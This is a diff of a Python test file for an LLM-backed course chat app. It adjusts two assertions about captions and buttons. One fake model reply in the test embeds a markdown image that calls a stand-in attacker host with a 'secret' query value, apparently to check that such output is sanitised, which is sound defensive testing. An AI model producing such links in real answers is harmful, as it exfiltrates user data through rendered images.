@@ -150,7 +150,7 @@ def test_llm_mode_streams_the_answer_and_shows_the_model(course: Path, fake_llm:
     fake_llm.enqueue("Encoding is the input of information into the memory system [1]. "
                      "See ![x](http://attacker.example/?q=secret) <b>bold</b>")
     at = _ask(_app(), "What is encoding?")
-    assert "fake-model" in at.caption[0].value  # the mode, shown discreetly
+    assert any("fake-model" in c.value for c in at.caption)  # the mode, shown discreetly
     answer = at.session_state["messages"][-1].answer
     assert answer.mode == "fake-model" and answer.citations
     shown = at.chat_message[1].markdown[0].value
@@ -168,7 +168,7 @@ def test_off_topic_question_is_refused_visibly(course: Path) -> None:
 
 def test_starter_question_is_answered_when_clicked(course: Path) -> None:
     at = _app()
-    starter = next(b for b in at.button if b.label not in ("New chat", "Export"))
+    starter = next(b for b in at.button if b.label not in ("New chat", "Export", "Forget this chat"))
     starter.click().run()
     assert not at.exception, at.exception
     assert len(at.session_state["messages"]) == 2
